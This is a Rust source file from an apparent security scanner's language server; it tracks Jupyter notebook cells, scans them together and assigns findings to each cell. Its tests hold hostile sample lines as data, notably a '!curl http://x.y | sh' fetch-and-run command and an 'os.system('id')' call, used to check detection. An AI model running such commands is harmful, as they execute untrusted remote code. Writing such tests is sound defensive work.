//! Notebooks: which cells one has, in order, and the scan of all of them as one program, because they share their names.
//! At most one scan of a notebook at a time; the newest texts win.

use std::sync::Arc;

use saferun_scanner::{Options, Report, extract::scan_bytes};
use serde_json::json;
use tower_lsp_server::ls_types::{
    DidChangeNotebookDocumentParams, DidOpenNotebookDocumentParams, NotebookCellArrayChange,
    TextDocumentItem, Uri,
};

use crate::{
    document::{Found, Kind, MAX_BYTES, Open},
    position::LineIndex,
    scan::tell_of_crash,
    state::Shared,
};

/// A notebook that is open. Its cells are open files of their own.
#[derive(Debug, Default)]
pub(crate) struct Notebook {
    /// The cells with Python, in order.
    cells: Vec<Uri>,
    /// Whether a worker looks after it.
    busy: bool,
    /// Whether something changed since the last scan began.
    stale: bool,
}

impl Notebook {
    /// The cells, in order.
    pub(crate) fn cells(&self) -> &[Uri] {
        &self.cells
    }

    /// Marks it as changed; true where a worker has to be started.
    fn wake(&mut self) -> bool {
        self.stale = true;
        !std::mem::replace(&mut self.busy, true)
    }

    /// Whether there is work; a worker that is told there is none ends.
    fn take(&mut self) -> bool {
        self.busy = std::mem::take(&mut self.stale);
        self.busy
    }

    /// Puts cells into the order and takes others out. What lies outside of it is moved to its end.
    fn splice(&mut self, change: NotebookCellArrayChange) {
        let start = (change.start as usize).min(self.cells.len());
        let end = start
            .saturating_add(change.delete_count as usize)
            .min(self.cells.len());
        let new = change.cells.into_iter().flatten();
        self.cells.splice(start..end, new.map(|cell| cell.document));
    }
}

/// A cell as it is scanned.
struct Cell {
    uri: Uri,
    version: i32,
    text: String,
}

/// A notebook was opened.
pub(crate) fn opened(shared: &Arc<Shared>, params: DidOpenNotebookDocumentParams) {
    let id = params.notebook_document.uri;
    let cells = params.notebook_document.cells.into_iter();
    let notebook = Notebook {
        cells: cells.map(|cell| cell.document).collect(),
        ..Notebook::default()
    };
    if shared.open_notebook(&id, notebook) {
        open_cells(shared, &id, params.cell_text_documents);
        wake(shared, &id);
    }
}

/// Its cells or their texts changed. Gives the cells that are gone.
pub(crate) fn changed(shared: &Arc<Shared>, params: DidChangeNotebookDocumentParams) -> Vec<Uri> {
    let id = params.notebook_document.uri;
    let mut gone = Vec::new();
    let Some(cells) = params.change.cells else {
        return gone;
    };
    if let Some(structure) = cells.structure {
        shared.with_notebook(&id, |notebook| notebook.splice(structure.array));
        open_cells(shared, &id, structure.did_open.unwrap_or_default());
        for cell in structure.did_close.unwrap_or_default() {
            shared.close(&cell.uri);
            gone.push(cell.uri);
        }
    }
    let encoding = shared.encoding();
    for text in cells.text_content.into_iter().flatten() {
        shared.with_open(&text.document.uri, |open| {
            open.change(text.document.version, text.changes, encoding)
        });
    }
    wake(shared, &id);
    gone
}

fn open_cells(shared: &Shared, id: &Uri, cells: Vec<TextDocumentItem>) {
    for cell in cells {
        let mut open = Open::new(Kind::Cell, cell.version, cell.text);
        open.notebook = Some(id.clone());
        shared.open(&cell.uri, open);
    }
}

/// Sees to it that the newest texts of a notebook are scanned. Returns at once.
pub(crate) fn wake(shared: &Arc<Shared>, id: &Uri) {
    if shared.with_notebook(id, Notebook::wake) == Some(true) {
        tokio::spawn(work_through(Arc::clone(shared), id.clone()));
    }
}

async fn work_through(shared: Arc<Shared>, id: Uri) {
    while shared.with_notebook(&id, Notebook::take) == Some(true) {
        let Ok(permit) = Arc::clone(&shared.scans).acquire_owned().await else {
            return;
        };
        let cells = cells_of(&shared, &id, None);
        let (policies, notebook) = (Arc::clone(&shared), id.clone());
        let job = tokio::task::spawn_blocking(move || {
            let _permit = permit;
            let honour = policies
                .policy_of(&notebook)
                .is_ok_and(|policy| policy.honour_suppressions);
            saferun_guard::on_a_thread(move || scan(cells, honour))
        });
        match job.await {
            Ok(Ok(found)) => {
                for (uri, found) in found {
                    let told = shared.with_open(&uri, |open| {
                        let newest = found.version == open.version;
                        if newest {
                            open.found = Some(Arc::new(found));
                        }
                        newest
                    });
                    if told == Some(true) {
                        shared.found(&uri).await;
                    }
                }
            }
            Ok(Err(message)) => tell_of_crash(&shared, &id, &message),
            // The server ends.
            Err(_) => return,
        }
    }
}

/// The cells of a notebook as they stand, up to and without one of them.
fn cells_of(shared: &Shared, id: &Uri, until: Option<&Uri>) -> Vec<Cell> {
    let all = shared.with_notebook(id, |notebook| notebook.cells.clone());
    all.unwrap_or_default()
        .into_iter()
        .take_while(|uri| Some(uri) != until)
        .filter_map(|uri| {
            let (version, text) =
                shared.with_open(&uri, |open| (open.version, open.text.clone()))?;
            Some(Cell { uri, version, text })
        })
        .collect()
}

/// The texts of the cells above one of a notebook.
pub(crate) fn above(shared: &Shared, id: &Uri, cell: &Uri) -> Vec<String> {
    let cells = cells_of(shared, id, Some(cell));
    cells.into_iter().map(|cell| cell.text).collect()
}

/// What was found in each cell.
fn scan(cells: Vec<Cell>, honour_suppressions: bool) -> Vec<(Uri, Found)> {
    let options = Options {
        honour_suppressions,
        ..Options::default()
    };
    let size: usize = cells.iter().map(|cell| cell.text.len()).sum();
    let unscanned = size > MAX_BYTES;
    let mut reports = vec![Report::default(); cells.len()];
    if !unscanned {
        let sources = cells.iter();
        let sources: Vec<_> = sources
            .map(|cell| json!({"cell_type": "code", "source": cell.text}))
            .collect();
        let text = json!({"cells": sources}).to_string();
        let whole = scan_bytes("cells.ipynb", text.as_bytes(), &options).report;
        reports = by_cell(whole, cells.len());
    }
    let found = |(cell, report): (Cell, Report)| {
        let found = Found {
            version: cell.version,
            index: LineIndex::new(&cell.text),
            text: Arc::from(cell.text),
            report,
            policy: Vec::new(),
            unscanned,
        };
        (cell.uri, found)
    };
    cells.into_iter().zip(reports).map(found).collect()
}

/// The report of each cell out of that of them all.
fn by_cell(whole: Report, count: usize) -> Vec<Report> {
    let mut reports = vec![Report::default(); count];
    let place = |cell: Option<u32>| {
        let number = cell.and_then(|cell| usize::try_from(cell).ok());
        // What belongs to no cell is told at the first.
        number.unwrap_or(1).checked_sub(1)
    };
    for mut finding in whole.findings {
        // Which cell a step is in is not known, and a line of another cell would be wrong.
        finding.evidence.clear();
        let at = place(finding.cell);
        if let Some(report) = at.and_then(|at| reports.get_mut(at)) {
            report.findings.push(finding);
        }
    }
    for silent in whole.suppressed {
        let at = place(silent.finding.cell);
        if let Some(report) = at.and_then(|at| reports.get_mut(at)) {
            report.suppressed.push(silent);
        }
    }
    for report in &mut reports {
        report.incomplete = whole.incomplete;
    }
    reports
}

#[cfg(test)]
mod tests {
    use saferun_scanner::Level;
    use tower_lsp_server::ls_types::Diagnostic;

    use super::*;
    use crate::{diagnostics::of_open, position::Encoding};

    fn cell(name: &str, text: &str) -> Cell {
        Cell {
            uri: format!("vscode-notebook-cell:/n.ipynb#{name}")
                .parse()
                .unwrap(),
            version: 1,
            text: text.to_owned(),
        }
    }

    #[test]
    fn cells_share_their_names_and_magics_are_no_errors() {
        let found = scan(
            vec![
                cell("a", "%matplotlib inline\nimport os as o\n"),
                cell("b", "x = 1\no.system('id')"),
                cell("c", "!curl http://x.y | sh\n"),
            ],
            false,
        );
        let rules = |at: usize| -> Vec<(String, u32)> {
            let report: &Report = &found[at].1.report;
            let findings = report.findings.iter();
            findings
                .map(|one| (one.rule.clone(), one.range.start.line))
                .collect()
        };
        assert_eq!(rules(0), []);
        assert_eq!(rules(1).iter().map(|one| one.1).collect::<Vec<_>>(), [2]);
        assert!(rules(2).iter().all(|one| one.0 == "SR955") && !rules(2).is_empty());
    }

    #[test]
    fn a_notebook_that_is_too_long_says_of_each_cell_that_it_is_not_scanned() {
        let half = format!("import os\nos.system(x)\n#{}", "x".repeat(MAX_BYTES / 2));
        let said = |cells: Vec<Cell>| -> Vec<bool> {
            let mut all = Vec::new();
            for (uri, found) in scan(cells, false) {
                let mut open = Open::new(Kind::Cell, 1, found.text.to_string());
                open.found = Some(Arc::new(found));
                let told = of_open(&uri, &open, Encoding::Utf16, Level::Low);
                let says = |one: &Diagnostic| one.message.contains("is not scanned");
                assert_eq!(
                    told.iter().any(says),
                    open.found.is_some_and(|it| it.unscanned)
                );
                all.push(told.iter().any(says));
            }
            all
        };
        assert_eq!(said(vec![cell("a", &half), cell("b", &half)]), [true, true]);
        assert_eq!(
            said(vec![cell("a", "x = 1\n"), cell("b", "")]),
            [false, false]
        );
    }

    #[test]
    fn hostile_changes_of_the_order_stay_within_it() {
        let mut notebook = Notebook::default();
        let change = |start, delete_count| NotebookCellArrayChange {
            start,
            delete_count,
            cells: None,
        };
        notebook.cells = vec![cell("a", "").uri, cell("b", "").uri];
        notebook.splice(change(u32::MAX, u32::MAX));
        assert_eq!(notebook.cells.len(), 2);
        notebook.splice(change(1, u32::MAX));
        assert_eq!(notebook.cells.len(), 1);
    }
}
